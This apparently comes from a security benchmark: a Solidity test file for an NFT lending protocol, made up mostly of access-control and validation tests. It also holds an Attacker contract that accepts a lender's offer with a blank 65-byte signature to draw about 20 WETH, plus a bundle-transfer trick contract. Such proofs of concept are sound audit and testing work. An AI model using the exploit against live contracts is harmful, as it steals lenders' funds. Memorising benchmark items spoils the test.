// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";
import {DeskBound} from "../../src/admin/DeskBound.sol";
import {Managed} from "../../src/admin/Managed.sol";
import {ILoanPool} from "../../src/interfaces/IPool.sol";
import {StandingOrders} from "../../src/periphery/StandingOrders.sol";

contract Attacker {
    function run(LoanDesk desk, Chalk chalk, Offer calldata o) external {
        chalk.setApprovalForAll(address(desk.vault()), true);
        desk.accept(o, new bytes(65), 9, new bytes32[](0));
    }
}

/// Gives away the bundle that it becomes a part of, before all parts are in.
contract Part {
    address private immutable to;

    constructor(address to_) {
        to = to_;
    }

    function wrap(Bundles bundles) external {
        Item[] memory parts = new Item[](2);
        (parts[0], parts[1]) = (Item(address(this), 1), Item(address(this), 2));
        bundles.wrap(parts);
    }

    function transferFrom(address, address, uint256 id) external {
        Bundles bundles = Bundles(msg.sender);
        if (id == 1) bundles.transferFrom(address(this), to, bundles.lastId());
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        chalk.mint(address(other), 9);
    }

    bytes32[] private none;

    function test_RefusesStrangers() public {
        bytes4 notDesk = DeskBound.NotDesk.selector;
        Item memory item = Item(address(pebble), 1);
        Offer memory o = chalkOffer();
        _refused(FAR, address(vault), abi.encodeCall(vault.keep, (9, item, BO)), notDesk);
        _refused(FAR, address(vault), abi.encodeCall(vault.reassign, (1, 9)), notDesk);
        _refused(FAR, address(vault), abi.encodeCall(vault.release, (1, FAR)), notDesk);
        _refused(FAR, address(notes), abi.encodeCall(notes.mint, (FAR, 9)), notDesk);
        _refused(FAR, address(notes), abi.encodeCall(notes.burn, (1)), notDesk);
        _refused(FAR, address(book), abi.encodeCall(book.consume, (o, _signed(o, CEE_KEY), 1, none)), notDesk);
        _refused(FAR, address(desk), abi.encodeCall(desk.foreclose, (soldLoan)), LoanDesk.NotHouse.selector);
        _refused(FAR, address(desk), abi.encodeCall(desk.handOut, (soldLoan, FAR)), LoanDesk.NotHouse.selector);
        _told(FAR, address(ledger), abi.encodeCall(ledger.credit, (FAR, address(weth), 1)), "only desk and house");
        _told(FAR, address(pool), abi.encodeCall(pool.onRepaid, (soldLoan, 1)), "only desk and house");
        _told(FAR, address(pool), abi.encodeCall(pool.onForeclosed, (soldLoan)), "only the house");
        vm.prank(BO);
        desk.repay(savedLoan);
        require(!pool.isOpen(savedLoan) && pool.lent() == 150e18, "the desk may");
        bytes memory lend = abi.encodeWithSelector(desk.lend.selector, BO, address(weth), address(pebble), 5, 1, 1, 1 days);
        _told(FAR, address(desk), lend, "not the pool");
        bytes memory call = abi.encodeCall(claimer.onUse, (1, item, BO, abi.encode(drop)));
        _told(FAR, address(claimer), call, "not the vault");
    }

    function test_RefusesInstallations() public {
        bytes4 notInstaller = DeskBound.NotInstaller.selector;
        _refused(FAR, address(vault), abi.encodeCall(vault.bind, (FAR)), notInstaller);
        _refused(address(this), address(vault), abi.encodeCall(vault.bind, (FAR)), DeskBound.Bound.selector);
        _refused(FAR, address(ledger), abi.encodeCall(ledger.bindHouse, (FAR)), notInstaller);
        _told(address(this), address(ledger), abi.encodeCall(ledger.bindHouse, (FAR)), "house is set");
        _refused(FAR, address(house), abi.encodeCall(house.bindPool, (pool)), notInstaller);
        _told(address(this), address(house), abi.encodeCall(house.bindPool, (pool)), "pool is set");
        bytes memory call = abi.encodeCall(desk.bindPool, (ILoanPool(FAR), FAR));
        _told(FAR, address(desk), call, "not the installer");
        _told(address(this), address(desk), call, "pool is set");
    }

    function test_RefusesManagement() public {
        bytes4 notManager = Managed.NotManager.selector;
        _refused(FAR, address(appraiser), abi.encodeCall(appraiser.setSigner, (FAR)), notManager);
        _refused(FAR, address(appraiser), abi.encodeCall(appraiser.setCeiling, (address(chalk), 1)), notManager);
        _refused(FAR, address(pool), abi.encodeCall(pool.setAdvance, (address(chalk), 1)), notManager);
        _refused(FAR, address(pool), abi.encodeCall(pool.setRates, (1, 1)), notManager);
        _refused(FAR, address(claimer), abi.encodeCall(claimer.setDrop, (FAR, true)), notManager);
        _refused(FAR, address(house), abi.encodeCall(house.collect, (soldLoan, FAR)), notManager);
        string memory notOwner = "Ownable: caller is not the owner";
        bytes memory call = abi.encodeCall(listing.setCollection, (FAR, IListing.Kind(true, true, false)));
        _told(FAR, address(listing), call, notOwner);
        _told(FAR, address(listing), abi.encodeCall(listing.setCurrency, (FAR, true)), notOwner);
        _told(FAR, address(listing), abi.encodeCall(listing.setFee, (1, FAR)), notOwner);
        _told(FAR, address(listing), abi.encodeCall(listing.setPaused, (true)), notOwner);
        _told(OWNER, address(listing), abi.encodeCall(listing.setFee, (201, FAR)), "fee too high");
        _told(OWNER, address(listing), abi.encodeCall(listing.setFee, (1, address(0))), "no treasury");
        _told(OWNER, address(appraiser), abi.encodeCall(appraiser.setSigner, (address(0))), "no signer");
        _told(OWNER, address(pool), abi.encodeCall(pool.setAdvance, (address(chalk), 6_001)), "too much");
        _told(OWNER, address(pool), abi.encodeCall(pool.setAdvance, (address(bundles), 1)), "bundles have no appraisal");
        _told(OWNER, address(pool), abi.encodeCall(pool.setRates, (9_000, 1_001)), "rates too high");
        call = abi.encodeCall(listing.setCollection, (address(bundles), IListing.Kind(true, true, false)));
        _told(OWNER, address(listing), call, "content is compared");
        vm.prank(OWNER);
        listing.setCollection(address(bundles), IListing.Kind(true, false, true));
        require(!listing.kindOf(address(bundles)).usable, "kept in the vault");
        _refused(FAR, address(pool), abi.encodeCall(pool.give, (savedLoan, 0)), notManager);
        _told(OWNER, address(pool), abi.encodeCall(pool.give, (99, 0)), "not taken out");
        house.start(savedLoan);
        _told(OWNER, address(pool), abi.encodeCall(pool.give, (savedLoan, 0)), "not taken out");
    }

    function test_RefusesOffers() public {
        Offer memory o = _offer(dee, address(pebble), 1e18, 0, 1 days);
        o.deadline = uint64(block.timestamp) - 1;
        _offered(o, 5, OfferBook.Expired.selector);
        o = _offer(dee, address(pebble), 1e18, 0, 1 days);
        o.tokens = TokenSet.leaf(1);
        _offered(o, 5, OfferBook.NotOffered.selector);
        vm.startPrank(dee);
        book.cancel(9);
        book.cancelBelow(8);
        vm.stopPrank();
        _offered(o, 1, OfferBook.TakenBack.selector);
        o.nonce = 9;
        _offered(o, 1, OfferBook.TakenBack.selector);
        _told(dee, address(book), abi.encodeCall(book.cancelBelow, (8)), "nonces only grow");
        o = chalkOffer();
        bytes memory call = abi.encodeCall(desk.accept, (o, _signed(o, CEE_KEY), 3, none));
        vm.prank(BO);
        (bool done,) = address(desk).call(call);
        require(!done || chalk.ownerOf(3) == address(vault), "all uses but one");
        _refused(BO, address(desk), abi.encodeCall(desk.accept, (o, _signed(o, CEE_KEY), 4, none)), OfferBook.UsedUp.selector);
    }

    function test_RefusesTerms() public {
        Offer memory o = _offer(dee, address(chalk), 1e18, 0, 1 days);
        o.content = bytes32(uint256(1));
        _offered(o, 5, LoanDesk.OtherContent.selector);
        o.content = 0;
        o.principal = 0;
        _offered(o, 5, LoanDesk.BadAmount.selector);
        (o.principal, o.rate) = (1e18, 50_001);
        _offered(o, 5, LoanDesk.BadTerms.selector);
        (o.rate, o.duration) = (0, 0);
        _offered(o, 5, LoanDesk.BadTerms.selector);
        o.duration = 731 days;
        _offered(o, 5, LoanDesk.BadTerms.selector);
        (o.duration, o.currency) = (1 days, address(drop.reward()));
        _offered(o, 5, LoanDesk.NotListed.selector);
        o.currency = address(weth);
        vm.prank(OWNER);
        listing.setPaused(true);
        _offered(o, 5, LoanDesk.NotListed.selector);
    }

    function test_RefusesRefinancing() public {
        Offer memory o = _offer(dee, address(pebble), 60e18, 2_000, 90 days);
        _refused(EVA, address(desk), _refinancing(signedLoan, o, 0), LoanDesk.NotBetter.selector);
        _refused(BO, address(desk), _refinancing(signedLoan, o, 40e18), LoanDesk.BadAmount.selector);
        _refused(BO, address(desk), _refinancing(signedLoan, o, 61e18), LoanDesk.BadAmount.selector);
        _refused(BO, address(desk), _refinancing(5, o, 50e18), LoanDesk.NotRunning.selector);
        o.collection = address(chalk);
        _refused(BO, address(desk), _refinancing(signedLoan, o, 50e18), LoanDesk.OtherLoan.selector);
        Coin coin = new Coin("OTHER");
        vm.prank(OWNER);
        listing.setCurrency(address(coin), true);
        (o.collection, o.currency) = (address(pebble), address(coin));
        _refused(BO, address(desk), _refinancing(signedLoan, o, 50e18), LoanDesk.OtherLoan.selector);
    }

    function test_RefusesAmendments() public {
        uint64 time = uint64(block.timestamp);
        Amendment memory a = Amendment(signedLoan, 0, 40e18, 0, time + 50 days, time);
        _refused(FAR, address(desk), _amendment(a, CEE_KEY), LoanDesk.NotBorrower.selector);
        _refused(BO, address(desk), _amendment(a, DEE_KEY), OfferBook.BadSignature.selector);
        a.version = 1;
        _refused(BO, address(desk), _amendment(a, CEE_KEY), LoanDesk.OtherVersion.selector);
        (a.version, a.principal) = (0, 0);
        _refused(BO, address(desk), _amendment(a, CEE_KEY), LoanDesk.BadAmount.selector);
        a.principal = 42e18;
        _refused(BO, address(desk), _amendment(a, CEE_KEY), LoanDesk.BadAmount.selector);
        (a.principal, a.rate) = (40e18, 50_001);
        _refused(BO, address(desk), _amendment(a, CEE_KEY), LoanDesk.BadTerms.selector);
        (a.rate, a.deadline) = (0, time - 1);
        _refused(BO, address(desk), _amendment(a, CEE_KEY), OfferBook.Expired.selector);
    }

    function test_RefusesSeizures() public {
        _refused(cee, address(desk), abi.encodeCall(desk.seize, (signedLoan)), LoanDesk.NotOverdue.selector);
        _refused(address(house), address(desk), abi.encodeCall(desk.handOut, (signedLoan, FAR)), LoanDesk.NotInAuction.selector);
        uint256 loan = _borrow(BO, 5, 1e18, 30 days);
        _refused(FAR, address(house), abi.encodeCall(house.start, (loan)), LoanDesk.NotOverdue.selector);
        vm.warp(START + 62 days);
        _refused(FAR, address(desk), abi.encodeCall(desk.seize, (signedLoan)), LoanDesk.NotHolder.selector);
    }

    function test_RefusesUses() public {
        bytes memory call = abi.encodeCall(vault.use, (signedLoan, claimer, abi.encode(FAR)));
        _refused(FAR, address(vault), call, CollateralVault.NotBorrower.selector);
        _told(BO, address(vault), call, "unknown drop");
        vm.prank(OWNER);
        listing.setCollection(address(pebble), IListing.Kind(true, false, false));
        _refused(BO, address(vault), call, CollateralVault.NotUsable.selector);
        house.start(soldLoan);
        call = abi.encodeCall(vault.use, (soldLoan, claimer, abi.encode(drop)));
        _refused(BO, address(vault), call, CollateralVault.NotBorrower.selector);
    }

    function test_RefusesAppraisals() public {
        (Appraisal memory a, bytes memory signature) = _appraisal(address(pebble), 5, 180e18);
        _told(BO, address(pool), _borrowing(6, a, signature, 1e18, 1 days), "another token");
        _told(BO, address(pool), _borrowing(5, a, signature, 75e18 + 1, 1 days), "too much for this token");
        _told(BO, address(pool), _borrowing(5, a, signature, 1e18, 181 days), "too long");
        _told(BO, address(pool), _borrowing(5, a, _sign(CEE_KEY, appraiser.digestOf(a)), 1e18, 1 days), "not the signer");
        a.validUntil = uint64(block.timestamp) + 8 days;
        _told(BO, address(pool), _borrowing(5, a, _sign(EYE_KEY, appraiser.digestOf(a)), 1e18, 1 days), "appraisal too long");
        a.validUntil = uint64(block.timestamp) - 1;
        _told(BO, address(pool), _borrowing(5, a, _sign(EYE_KEY, appraiser.digestOf(a)), 1e18, 1 days), "appraisal too old");
        _borrow(BO, 5, 75e18, 1 days);
        (a, signature) = _appraisal(address(pebble), 6, 180e18);
        _told(BO, address(pool), _borrowing(6, a, signature, 75e18, 1 days), "not enough cash");
    }

    function test_RefusesCompoundCollections() public {
        (Appraisal memory a, bytes memory signature) = _appraisal(address(pebble), 5, 180e18);
        vm.prank(OWNER);
        listing.setCollection(address(pebble), IListing.Kind(true, true, true));
        _told(BO, address(pool), _borrowing(5, a, signature, 1e18, 1 days), "bundles have no appraisal");
        vm.prank(OWNER);
        pool.setAdvance(address(pebble), 0);
        require(pool.advanceOf(address(pebble)) == 0, "taken back");
        _told(OWNER, address(pool), abi.encodeCall(pool.setAdvance, (address(pebble), 1)), "bundles have no appraisal");
    }

    function test_RefusesDeposits() public {
        _told(ANA, address(pool), abi.encodeCall(pool.deposit, (0, ANA)), "no shares");
        _told(ANA, address(pool), abi.encodeCall(pool.withdraw, (0, ANA, 0)), "nothing to pay");
        uint256 all = pool.balanceOf(ANA);
        _told(ANA, address(pool), abi.encodeCall(pool.withdraw, (all, ANA, 0)), "not enough cash");
        uint256 least = pool.worthOf(all / 10);
        house.start(soldLoan);
        _told(ANA, address(pool), abi.encodeCall(pool.withdraw, (all / 10, ANA, least)), "less than the least");
        _told(ANA, address(pool), abi.encodeCall(pool.deposit, (1e18, ANA)), "loans in auction");
        vm.warp(block.timestamp + 3 days);
        vm.prank(OWNER);
        house.collect(soldLoan, OWNER);
        _told(ANA, address(pool), abi.encodeCall(pool.deposit, (1e18, ANA)), "loans in auction");
    }

    function test_RefusesBids() public {
        _refused(FAR, address(house), abi.encodeCall(house.start, (signedLoan)), AuctionHouse.NotOfPool.selector);
        _refused(EVA, address(house), abi.encodeCall(house.bid, (soldLoan, 90e18)), AuctionHouse.NotOpen.selector);
        _refused(EVA, address(house), abi.encodeCall(house.redeem, (soldLoan)), AuctionHouse.NotOpen.selector);
        _refused(OWNER, address(house), abi.encodeCall(house.collect, (soldLoan, FAR)), AuctionHouse.StillOpen.selector);
        house.start(soldLoan);
        house.start(leftLoan);
        _refused(OWNER, address(house), abi.encodeCall(house.start, (soldLoan)), AuctionHouse.AlreadyStarted.selector);
        _refused(OWNER, address(house), abi.encodeCall(house.collect, (soldLoan, FAR)), AuctionHouse.StillOpen.selector);
        _refused(FAR, address(house), abi.encodeCall(house.settle, (soldLoan)), AuctionHouse.NoBid.selector);
        _refused(EVA, address(house), abi.encodeCall(house.bid, (soldLoan, 75e18)), AuctionHouse.BidTooLow.selector);
        _bid(soldLoan, 80e18);
        _refused(EVA, address(house), abi.encodeCall(house.bid, (soldLoan, 84e18 - 1)), AuctionHouse.BidTooLow.selector);
        _refused(FAR, address(house), abi.encodeCall(house.settle, (soldLoan)), AuctionHouse.StillOpen.selector);
        vm.warp(block.timestamp + 3 days);
        _refused(FAR, address(house), abi.encodeCall(house.start, (leftLoan)), Managed.NotManager.selector);
        _refused(OWNER, address(house), abi.encodeCall(house.start, (soldLoan)), AuctionHouse.AlreadyStarted.selector);
        _refused(EVA, address(house), abi.encodeCall(house.bid, (soldLoan, 90e18)), AuctionHouse.NotOpen.selector);
        _refused(EVA, address(house), abi.encodeCall(house.redeem, (soldLoan)), AuctionHouse.NotOpen.selector);
        _refused(OWNER, address(house), abi.encodeCall(house.collect, (soldLoan, FAR)), AuctionHouse.HasBid.selector);
    }

    function test_RefusesBundles() public {
        Item[] memory parts = new Item[](1);
        _told(FAR, address(bundles), abi.encodeCall(bundles.wrap, (new Item[](0))), "nothing in it");
        parts[0] = Item(address(pebble), 5);
        vm.startPrank(BO);
        uint256 id = bundles.wrap(parts);
        parts[0].tokenId = 6;
        uint256 next = bundles.wrap(parts);
        bundles.approve(address(bundles), next);
        vm.stopPrank();
        _told(FAR, address(bundles), abi.encodeCall(bundles.add, (id, Item(address(chalk), 5))), "not your bundle");
        _told(FAR, address(bundles), abi.encodeCall(bundles.takeLast, (id, FAR)), "not your bundle");
        _told(FAR, address(bundles), abi.encodeCall(bundles.unwrap, (id, FAR)), "not your bundle");
        _told(BO, address(bundles), abi.encodeCall(bundles.takeLast, (id, BO)), "open it instead");
        _told(BO, address(bundles), abi.encodeCall(bundles.add, (id, Item(address(bundles), next))), "no bundles in bundles");
        parts = new Item[](21);
        for (uint256 i = 0; i < 21; i++) {
            chalk.mint(FAR, 100 + i);
            parts[i] = Item(address(chalk), 100 + i);
        }
        vm.prank(FAR);
        chalk.setApprovalForAll(address(bundles), true);
        _told(FAR, address(bundles), abi.encodeCall(bundles.wrap, (parts)), "too many parts");
    }

    function test_RefusesNotesInBundles() public {
        Item[] memory parts = new Item[](1);
        parts[0] = Item(address(pebble), 5);
        vm.prank(BO);
        uint256 id = bundles.wrap(parts);
        parts[0] = Item(address(notes), signedLoan);
        vm.prank(cee);
        notes.transferFrom(cee, BO, signedLoan);
        vm.prank(BO);
        notes.approve(address(bundles), signedLoan);
        _told(BO, address(bundles), abi.encodeCall(bundles.wrap, (parts)), "no notes in bundles");
        _told(BO, address(bundles), abi.encodeCall(bundles.add, (id, parts[0])), "no notes in bundles");
    }

    function test_RefusesUnfinishedBundles() public {
        Part part = new Part(FAR);
        _told(FAR, address(part), abi.encodeCall(part.wrap, (bundles)), "ERC721: invalid token ID");
    }

    function test_RefusesAsks() public {
        _told(EVA, address(market), abi.encodeCall(market.buy, (1, 0, address(weth), 50e18)), "not for sale");
        _told(EVA, address(market), abi.encodeCall(market.buy, (99, 0, address(weth), 50e18)), "not for sale");
        _told(EVA, address(market), abi.encodeCall(market.ask, (1, address(weth), 1)), "not your note");
        _told(cee, address(market), abi.encodeCall(market.ask, (1, address(weth), 0)), "no price");
        vm.prank(cee);
        market.ask(1, address(weth), 50e18);
        _told(EVA, address(market), abi.encodeCall(market.takeBack, (1)), "not your ask");
        _told(EVA, address(market), abi.encodeCall(market.buy, (1, 0, address(weth), 49e18)), "too expensive");
        _told(EVA, address(market), abi.encodeCall(market.buy, (1, 0, address(pebble), 50e18)), "another currency");
        _told(EVA, address(market), abi.encodeCall(market.buy, (1, 1, address(weth), 50e18)), "loan was amended");
        vm.prank(cee);
        notes.transferFrom(cee, dee, 1);
        _told(EVA, address(market), abi.encodeCall(market.buy, (1, 0, address(weth), 50e18)), "not for sale");
    }

    function test_RefusesOrders() public {
        address at = address(orders);
        _told(BO, at, abi.encodeCall(orders.execute, (signedLoan)), "no order");
        _told(FAR, at, abi.encodeCall(orders.order, (signedLoan, 0, 60e18, 0)), "not your loan");
        _told(BO, at, abi.encodeCall(orders.order, (signedLoan, 8 days, 60e18, 0)), "lead too long");
        vm.prank(BO);
        orders.order(signedLoan, 1 days, 40e18, 0);
        _told(FAR, at, abi.encodeCall(orders.withdrawOrder, (signedLoan)), "not your order");
        _told(FAR, at, abi.encodeCall(orders.execute, (signedLoan)), "too early");
        vm.warp(START + 59 days);
        _told(FAR, at, abi.encodeCall(orders.execute, (signedLoan)), "too much debt");
        house.start(savedLoan);
        _told(BO, at, abi.encodeCall(orders.order, (savedLoan, 0, 60e18, 0)), "not your loan");
    }

    function test_RefusesOrdersBeforeNewDate() public {
        _fund(BO, 20e18, address(orders));
        vm.prank(BO);
        orders.order(signedLoan, 1 days, 60e18, 0);
        _amended(START + 100 days);
        vm.warp(START + 99 days - 1);
        _told(FAR, address(orders), abi.encodeCall(orders.execute, (signedLoan)), "too early");
        _amended(START + 99 days + 1 hours);
        vm.prank(FAR);
        orders.execute(signedLoan);
        require(pebble.ownerOf(1) == BO, "repaid before the new date");
    }

    function _amended(uint256 dueAt) private {
        (uint64 due, uint32 version) = (uint64(dueAt), desk.loanOf(signedLoan).version);
        Amendment memory a = Amendment(signedLoan, version, desk.debtOf(signedLoan), 1_800, due, due);
        bytes memory signature = _sign(CEE_KEY, book.digestOf(a));
        vm.prank(BO);
        desk.amend(a, signature);
    }

    function _offered(Offer memory o, uint256 id, bytes4 reason) private {
        bytes memory signature = _signed(o, o.lender == cee ? CEE_KEY : DEE_KEY);
        _refused(BO, address(desk), abi.encodeCall(desk.accept, (o, signature, id, none)), reason);
    }

    function _refinancing(uint256 loan, Offer memory o, uint256 amount) private returns (bytes memory) {
        return abi.encodeCall(desk.refinance, (loan, o, _signed(o, DEE_KEY), none, amount));
    }

    function _amendment(Amendment memory a, uint256 key) private returns (bytes memory) {
        return abi.encodeCall(desk.amend, (a, _sign(key, book.digestOf(a))));
    }

    function _borrowing(uint256 id, Appraisal memory a, bytes memory signature, uint256 amount, uint64 duration)
        private
        view
        returns (bytes memory)
    {
        return abi.encodeCall(pool.borrow, (address(pebble), id, a, signature, amount, duration));
    }

    /// Requires that a call is refused with this error.
    function _refused(address who, address where, bytes memory call, bytes4 reason) private {
        require(bytes4(_answer(who, where, call)) == reason, "not refused, or for another reason");
    }

    /// Requires that a call is refused with these words.
    function _told(address who, address where, bytes memory call, string memory words) private {
        bytes memory reason = abi.encodeWithSignature("Error(string)", words);
        require(keccak256(_answer(who, where, call)) == keccak256(reason), "not refused, or in other words");
    }

    function _answer(address who, address where, bytes memory call) private returns (bytes memory why) {
        bool done;
        vm.prank(who);
        (done, why) = where.call(call);
        require(!done, "not refused");
    }

    function exploit() public {
        other.run(desk, chalk, _offer(dee, address(chalk), 20e18, 0, 90 days));
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) > 19e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(book);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
